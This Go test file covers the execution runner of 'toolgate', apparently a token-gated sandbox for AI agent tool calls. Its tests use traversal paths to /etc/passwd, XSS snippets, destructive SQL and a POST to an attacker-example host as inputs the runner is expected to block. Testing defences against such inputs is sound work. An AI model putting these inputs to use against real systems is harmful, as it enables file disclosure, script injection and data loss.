package runner

import (
	"context"
	"database/sql"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ppiankov/toolgate/internal/audit"
	"github.com/ppiankov/toolgate/internal/model"
	"github.com/ppiankov/toolgate/internal/token"
)

func newTestRunner(t *testing.T) (*Runner, *token.Manager) {
	t.Helper()
	tm := token.NewManager(nil)
	r := New(Config{
		Root:              t.TempDir(),
		AllowedDomains:    []string{"127.0.0.1", "api.internal.example"},
		AllowedAgents:     []string{"research-agent"},
		AllowedRecipients: []string{"team@internal.example"},
	}, tm, nil)
	return r, tm
}

func mustIntent(t *testing.T, p model.Params, risk model.RiskLevel) *model.ActionIntent {
	t.Helper()
	in := model.NewIntent("agent-1", "sess-1", p, risk)
	if err := in.Validate(); err != nil {
		t.Fatalf("intent validation: %v", err)
	}
	return in
}

func mint(t *testing.T, tm *token.Manager, in *model.ActionIntent) *token.Token {
	t.Helper()
	scope, ttl, uses := token.GrantFor(in.Type)
	tok, err := tm.Mint(in.AgentID, in.Type, in.Target, in.ID, nil, ttl, scope, uses)
	if err != nil {
		t.Fatalf("mint: %v", err)
	}
	return tok
}

func TestExecuteReadFileSingleUse(t *testing.T) {
	r, tm := newTestRunner(t)
	if err := os.WriteFile(filepath.Join(r.cfg.Root, "notes.md"), []byte("meeting at noon"), 0o600); err != nil {
		t.Fatal(err)
	}

	in := mustIntent(t, model.ReadFileParams{Path: "notes.md"}, model.RiskLow)
	tok := mint(t, tm, in)

	res := r.Execute(context.Background(), in, tok.ID)
	if res.Status != StatusCompleted {
		t.Fatalf("status = %s (%s), want completed", res.Status, res.Error)
	}
	if res.Output != "meeting at noon" {
		t.Errorf("output = %q", res.Output)
	}
	if res.IntentID != in.ID || res.TokenID != tok.ID {
		t.Errorf("result correlation: intent %q token %q", res.IntentID, res.TokenID)
	}

	// The grant is single-use: a replay is rejected at the gate.
	res = r.Execute(context.Background(), in, tok.ID)
	if res.Status != StatusRejected {
		t.Fatalf("replay status = %s, want rejected", res.Status)
	}
	if !strings.Contains(res.Error, "already used") {
		t.Errorf("replay error = %q", res.Error)
	}
}

func TestExecuteTokenGate(t *testing.T) {
	r, tm := newTestRunner(t)
	in := mustIntent(t, model.ReadFileParams{Path: "notes.md"}, model.RiskLow)

	t.Run("unknown token", func(t *testing.T) {
		res := r.Execute(context.Background(), in, "no-such-token")
		if res.Status != StatusRejected || !strings.Contains(res.Error, "not found") {
			t.Errorf("got %s / %q", res.Status, res.Error)
		}
	})

	t.Run("token bound to another intent", func(t *testing.T) {
		tok, err := tm.Mint(in.AgentID, in.Type, in.Target, "other-intent", nil, time.Minute, model.ScopeSingleUse, 1)
		if err != nil {
			t.Fatal(err)
		}
		res := r.Execute(context.Background(), in, tok.ID)
		if res.Status != StatusRejected || !strings.Contains(res.Error, "bound to intent") {
			t.Errorf("got %s / %q", res.Status, res.Error)
		}
	})

	t.Run("tool mismatch", func(t *testing.T) {
		tok, err := tm.Mint(in.AgentID, model.ActionWriteFile, in.Target, in.ID, nil, time.Minute, model.ScopeSingleUse, 1)
		if err != nil {
			t.Fatal(err)
		}
		res := r.Execute(context.Background(), in, tok.ID)
		if res.Status != StatusRejected || !strings.Contains(res.Error, "mismatch") {
			t.Errorf("got %s / %q", res.Status, res.Error)
		}
	})

	t.Run("revoked token", func(t *testing.T) {
		tok := mint(t, tm, in)
		if !tm.RevokeID(tok.ID) {
			t.Fatal("revoke failed")
		}
		res := r.Execute(context.Background(), in, tok.ID)
		if res.Status != StatusRejected {
			t.Errorf("got %s / %q", res.Status, res.Error)
		}
	})
}

func TestExecutePathConfinement(t *testing.T) {
	r, tm := newTestRunner(t)

	tests := []struct {
		path    string
		wantErr string
	}{
		{"../../etc/passwd", "escapes the workspace root"},
		{"/etc/passwd", "is absolute"},
		{"a/../../../etc/passwd", "escapes the workspace root"},
	}
	for _, tt := range tests {
		in := mustIntent(t, model.ReadFileParams{Path: tt.path}, model.RiskLow)
		tok := mint(t, tm, in)
		res := r.Execute(context.Background(), in, tok.ID)
		if res.Status != StatusFailed {
			t.Errorf("%q: status = %s, want failed", tt.path, res.Status)
		}
		if !strings.Contains(res.Error, tt.wantErr) {
			t.Errorf("%q: error = %q, want %q", tt.path, res.Error, tt.wantErr)
		}
	}
}

func TestExecuteCommand(t *testing.T) {
	r, tm := newTestRunner(t)

	in := mustIntent(t, model.ExecuteCommandParams{Command: "echo hello"}, model.RiskLow)
	res := r.Execute(context.Background(), in, mint(t, tm, in).ID)
	if res.Status != StatusCompleted {
		t.Fatalf("status = %s (%s)", res.Status, res.Error)
	}
	if strings.TrimSpace(res.Output) != "hello" {
		t.Errorf("output = %q", res.Output)
	}
	if res.ExitCode != 0 {
		t.Errorf("exit code = %d", res.ExitCode)
	}

	// Non-zero exit is a failure result, not a fault.
	in = mustIntent(t, model.ExecuteCommandParams{Command: "exit 3"}, model.RiskLow)
	res = r.Execute(context.Background(), in, mint(t, tm, in).ID)
	if res.Status != StatusFailed {
		t.Fatalf("status = %s, want failed", res.Status)
	}
	if res.ExitCode != 3 {
		t.Errorf("exit code = %d, want 3", res.ExitCode)
	}
	if !strings.Contains(res.Error, "exited 3") {
		t.Errorf("error = %q", res.Error)
	}
}

func TestExecuteCommandTimeout(t *testing.T) {
	tm := token.NewManager(nil)
	r := New(Config{Root: t.TempDir(), CommandTimeout: 50 * time.Millisecond}, tm, nil)

	in := mustIntent(t, model.ExecuteCommandParams{Command: "sleep 5"}, model.RiskLow)
	res := r.Execute(context.Background(), in, mint(t, tm, in).ID)
	if res.Status != StatusFailed {
		t.Fatalf("status = %s, want failed", res.Status)
	}
	if !strings.Contains(res.Error, "timed out") {
		t.Errorf("error = %q", res.Error)
	}
}

func TestExecuteWriteFileSanitized(t *testing.T) {
	r, tm := newTestRunner(t)

	in := mustIntent(t, model.WriteFileParams{
		Path:     "out/page.html",
		Content:  `<p onload="steal()">hi</p><script>alert(1)</script>`,
		Sanitize: true,
	}, model.RiskLow)
	res := r.Execute(context.Background(), in, mint(t, tm, in).ID)
	if res.Status != StatusCompleted {
		t.Fatalf("status = %s (%s)", res.Status, res.Error)
	}
	if !res.Sanitized {
		t.Error("result not marked sanitized")
	}
	data, err := os.ReadFile(filepath.Join(r.cfg.Root, "out", "page.html"))
	if err != nil {
		t.Fatal(err)
	}
	got := string(data)
	if strings.Contains(got, "<script") || strings.Contains(got, "onload") {
		t.Errorf("dangerous content survived: %q", got)
	}
	if !strings.Contains(got, "hi") {
		t.Errorf("benign content lost: %q", got)
	}
}

func TestExecuteSanitizeObligationOnToken(t *testing.T) {
	r, tm := newTestRunner(t)

	// The intent did not ask for sanitization; the decision put the
	// obligation on the token.
	in := mustIntent(t, model.WriteFileParams{
		Path:    "out.md",
		Content: "click javascript:evil() here",
	}, model.RiskLow)
	constraints := []model.Constraint{{Type: model.ConstraintNote, Note: "sanitize"}}
	tok, err := tm.Mint(in.AgentID, in.Type, in.Target, in.ID, constraints, time.Minute, model.ScopeSingleUse, 1)
	if err != nil {
		t.Fatal(err)
	}

	res := r.Execute(context.Background(), in, tok.ID)
	if res.Status != StatusCompleted {
		t.Fatalf("status = %s (%s)", res.Status, res.Error)
	}
	if !res.Sanitized {
		t.Error("token obligation ignored")
	}
	data, _ := os.ReadFile(filepath.Join(r.cfg.Root, "out.md"))
	if strings.Contains(string(data), "javascript:") {
		t.Errorf("fragment survived: %q", data)
	}
}

func TestExecuteMemoryRoundTrip(t *testing.T) {
	r, tm := newTestRunner(t)

	write := mustIntent(t, model.WriteMemoryParams{Key: "prefs", Value: "theme=dark"}, model.RiskLow)
	res := r.Execute(context.Background(), write, mint(t, tm, write).ID)
	if res.Status != StatusCompleted {
		t.Fatalf("write status = %s (%s)", res.Status, res.Error)
	}

	read := mustIntent(t, model.ReadMemoryParams{Key: "prefs"}, model.RiskLow)
	res = r.Execute(context.Background(), read, mint(t, tm, read).ID)
	if res.Status != StatusCompleted {
		t.Fatalf("read status = %s (%s)", res.Status, res.Error)
	}
	if res.Output != "theme=dark" {
		t.Errorf("output = %q", res.Output)
	}

	missing := mustIntent(t, model.ReadMemoryParams{Key: "nope"}, model.RiskLow)
	res = r.Execute(context.Background(), missing, mint(t, tm, missing).ID)
	if res.Status != StatusFailed || !strings.Contains(res.Error, "not found") {
		t.Errorf("missing key: %s / %q", res.Status, res.Error)
	}

	bad := mustIntent(t, model.ReadMemoryParams{Key: "a/b"}, model.RiskLow)
	res = r.Execute(context.Background(), bad, mint(t, tm, bad).ID)
	if res.Status != StatusFailed || !strings.Contains(res.Error, "invalid memory key") {
		t.Errorf("bad key: %s / %q", res.Status, res.Error)
	}
}

func TestExecuteQueryDatabase(t *testing.T) {
	tm := token.NewManager(nil)
	root := t.TempDir()
	dbPath := filepath.Join(root, "app.db")

	db, err := sql.Open("sqlite", dbPath)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec(`CREATE TABLE orders (id INTEGER PRIMARY KEY, item TEXT)`); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec(`INSERT INTO orders (id, item) VALUES (1, 'widget'), (2, 'deleted_widget')`); err != nil {
		t.Fatal(err)
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}

	r := New(Config{Root: root, DatabasePath: dbPath}, tm, nil)

	in := mustIntent(t, model.QueryDatabaseParams{Query: "SELECT id, item FROM orders ORDER BY id"}, model.RiskLow)
	res := r.Execute(context.Background(), in, mint(t, tm, in).ID)
	if res.Status != StatusCompleted {
		t.Fatalf("status = %s (%s)", res.Status, res.Error)
	}
	if !strings.Contains(res.Output, `"item":"widget"`) {
		t.Errorf("output = %q", res.Output)
	}

	// Destructive verbs are refused even though the engine screened the
	// query already.
	for _, q := range []string{
		"DROP TABLE orders",
		"delete from orders",
		"SELECT 1; TRUNCATE orders",
		"ALTER TABLE orders ADD COLUMN x",
		"EXEC sp_evil",
	} {
		in := mustIntent(t, model.QueryDatabaseParams{Query: q}, model.RiskLow)
		res := r.Execute(context.Background(), in, mint(t, tm, in).ID)
		if res.Status != StatusFailed || !strings.Contains(res.Error, "forbidden verb") {
			t.Errorf("%q: %s / %q", q, res.Status, res.Error)
		}
	}

	// Verbs inside longer words do not trip the pre-check.
	in = mustIntent(t, model.QueryDatabaseParams{Query: "SELECT item FROM orders WHERE item = 'deleted_widget'"}, model.RiskLow)
	res = r.Execute(context.Background(), in, mint(t, tm, in).ID)
	if res.Status != StatusCompleted {
		t.Errorf("substring query: %s / %q", res.Status, res.Error)
	}
}

func TestExecuteCallAPI(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		if req.URL.Path == "/fail" {
			w.WriteHeader(http.StatusInternalServerError)
			_, _ = w.Write([]byte("backend exploded"))
			return
		}
		_, _ = w.Write([]byte(`{"ok":true}`))
	}))
	defer srv.Close()

	r, tm := newTestRunner(t)

	in := mustIntent(t, model.CallAPIParams{Method: "GET", URL: srv.URL + "/v1/status"}, model.RiskLow)
	res := r.Execute(context.Background(), in, mint(t, tm, in).ID)
	if res.Status != StatusCompleted {
		t.Fatalf("status = %s (%s)", res.Status, res.Error)
	}
	if !strings.Contains(res.Output, `"ok":true`) {
		t.Errorf("output = %q", res.Output)
	}

	// Unlisted host is refused before any connection is made.
	in = mustIntent(t, model.CallAPIParams{Method: "POST", URL: "https://api.attacker.example/collect", Body: "x"}, model.RiskLow)
	res = r.Execute(context.Background(), in, mint(t, tm, in).ID)
	if res.Status != StatusFailed || !strings.Contains(res.Error, "domain allowlist") {
		t.Errorf("unlisted: %s / %q", res.Status, res.Error)
	}

	// An HTTP error is a failure result that still carries the body.
	in = mustIntent(t, model.CallAPIParams{Method: "GET", URL: srv.URL + "/fail"}, model.RiskLow)
	res = r.Execute(context.Background(), in, mint(t, tm, in).ID)
	if res.Status != StatusFailed || !strings.Contains(res.Error, "HTTP 500") {
		t.Errorf("error path: %s / %q", res.Status, res.Error)
	}
	if !strings.Contains(res.Output, "backend exploded") {
		t.Errorf("body lost: %q", res.Output)
	}
}

func TestExecuteSearchWeb(t *testing.T) {
	var gotQuery string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		gotQuery = req.URL.Query().Get("q")
		_, _ = w.Write([]byte(`{"results":[{"title":"Go testing"}]}`))
	}))
	defer srv.Close()

	tm := token.NewManager(nil)
	r := New(Config{Root: t.TempDir(), AllowedEngines: []string{srv.URL + "/search"}}, tm, nil)

	in := mustIntent(t, model.SearchWebParams{Query: "golang table tests", MaxResults: 3}, model.RiskLow)
	res := r.Execute(context.Background(), in, mint(t, tm, in).ID)
	if res.Status != StatusCompleted {
		t.Fatalf("status = %s (%s)", res.Status, res.Error)
	}
	if gotQuery != "golang table tests" {
		t.Errorf("engine received q=%q", gotQuery)
	}
	if !strings.Contains(res.Output, "Go testing") {
		t.Errorf("output = %q", res.Output)
	}

	// No engine configured fails closed.
	r2 := New(Config{Root: t.TempDir()}, tm, nil)
	in = mustIntent(t, model.SearchWebParams{Query: "anything"}, model.RiskLow)
	res = r2.Execute(context.Background(), in, mint(t, tm, in).ID)
	if res.Status != StatusFailed || !strings.Contains(res.Error, "no search engine") {
		t.Errorf("got %s / %q", res.Status, res.Error)
	}
}

func TestExecuteDelegateTask(t *testing.T) {
	r, tm := newTestRunner(t)

	in := mustIntent(t, model.DelegateTaskParams{TargetAgent: "research-agent", Task: "summarize the RFC"}, model.RiskLow)
	res := r.Execute(context.Background(), in, mint(t, tm, in).ID)
	if res.Status != StatusCompleted {
		t.Fatalf("status = %s (%s)", res.Status, res.Error)
	}

	entries, err := os.ReadDir(r.cfg.OutboxDir)
	if err != nil {
		t.Fatal(err)
	}
	var rec outboxRecord
	found := false
	for _, e := range entries {
		if e.IsDir() || !strings.HasPrefix(e.Name(), "delegation-") {
			continue
		}
		data, err := os.ReadFile(filepath.Join(r.cfg.OutboxDir, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal(data, &rec); err != nil {
			t.Fatal(err)
		}
		found = true
	}
	if !found {
		t.Fatal("no delegation record in outbox")
	}
	if rec.TargetAgent != "research-agent" || rec.Task != "summarize the RFC" || rec.IntentID != in.ID {
		t.Errorf("record = %+v", rec)
	}

	// Unlisted agent fails.
	in = mustIntent(t, model.DelegateTaskParams{TargetAgent: "rogue-agent", Task: "anything"}, model.RiskLow)
	res = r.Execute(context.Background(), in, mint(t, tm, in).ID)
	if res.Status != StatusFailed || !strings.Contains(res.Error, "delegation allowlist") {
		t.Errorf("got %s / %q", res.Status, res.Error)
	}
}

func TestExecuteSendMessageRateLimited(t *testing.T) {
	tm := token.NewManager(nil)
	r := New(Config{
		Root:              t.TempDir(),
		AllowedRecipients: []string{"team@internal.example"},
		MessageLimit:      2,
	}, tm, nil)

	send := func() ExecutionResult {
		in := mustIntent(t, model.SendMessageParams{
			Recipient: "team@internal.example",
			Subject:   "status",
			Body:      "all green",
		}, model.RiskLow)
		return r.Execute(context.Background(), in, mint(t, tm, in).ID)
	}

	for i := 0; i < 2; i++ {
		if res := send(); res.Status != StatusCompleted {
			t.Fatalf("send %d: %s (%s)", i+1, res.Status, res.Error)
		}
	}
	res := send()
	if res.Status != StatusFailed || !strings.Contains(res.Error, "rate limit exceeded") {
		t.Fatalf("third send: %s / %q", res.Status, res.Error)
	}

	// Unlisted recipient fails before the limiter runs.
	in := mustIntent(t, model.SendMessageParams{Recipient: "ceo@other.example", Body: "hi"}, model.RiskLow)
	res = r.Execute(context.Background(), in, mint(t, tm, in).ID)
	if res.Status != StatusFailed || !strings.Contains(res.Error, "allowlist") {
		t.Errorf("got %s / %q", res.Status, res.Error)
	}
}

func TestExecuteWritesOneAuditEntry(t *testing.T) {
	dir := t.TempDir()
	logPath := filepath.Join(dir, "audit.jsonl")
	log, err := audit.Open(logPath)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = log.Close() }()

	tm := token.NewManager(nil)
	r := New(Config{Root: dir}, tm, log)

	if err := os.WriteFile(filepath.Join(dir, "notes.md"), []byte("x"), 0o600); err != nil {
		t.Fatal(err)
	}
	in := mustIntent(t, model.ReadFileParams{Path: "notes.md"}, model.RiskLow)
	tok := mint(t, tm, in)
	if res := r.Execute(context.Background(), in, tok.ID); res.Status != StatusCompleted {
		t.Fatalf("status = %s (%s)", res.Status, res.Error)
	}

	q, err := audit.Query(logPath, audit.QueryFilter{IntentID: in.ID})
	if err != nil {
		t.Fatal(err)
	}
	if q.Summary.Total != 1 || q.Summary.ByEvent[audit.EventExecution] != 1 {
		t.Fatalf("summary = %+v, want one execution entry", q.Summary)
	}
	e := q.Entries[0]
	if e.TokenID != tok.ID || e.Result != string(StatusCompleted) || e.Action.Type != model.ActionReadFile {
		t.Errorf("entry = %+v", e)
	}

	// A gate rejection is audited too, flagged with the reason.
	in2 := mustIntent(t, model.ReadFileParams{Path: "notes.md"}, model.RiskLow)
	if res := r.Execute(context.Background(), in2, "bogus"); res.Status != StatusRejected {
		t.Fatalf("expected rejection")
	}
	q, err = audit.Query(logPath, audit.QueryFilter{IntentID: in2.ID})
	if err != nil {
		t.Fatal(err)
	}
	if q.Summary.Total != 1 || q.Summary.Flagged != 1 {
		t.Fatalf("summary = %+v, want one flagged entry", q.Summary)
	}
	if q.Entries[0].FlagReason == "" {
		t.Error("flag reason missing")
	}
}

func TestExecuteSessionTokenMultiUse(t *testing.T) {
	r, tm := newTestRunner(t)

	write := mustIntent(t, model.WriteMemoryParams{Key: "log", Value: "first"}, model.RiskLow)
	tok := mint(t, tm, write)
	if tok.Scope != model.ScopeSession {
		t.Fatalf("scope = %s, want session", tok.Scope)
	}

	for i := 0; i < 3; i++ {
		if res := r.Execute(context.Background(), write, tok.ID); res.Status != StatusCompleted {
			t.Fatalf("use %d: %s (%s)", i+1, res.Status, res.Error)
		}
	}
}
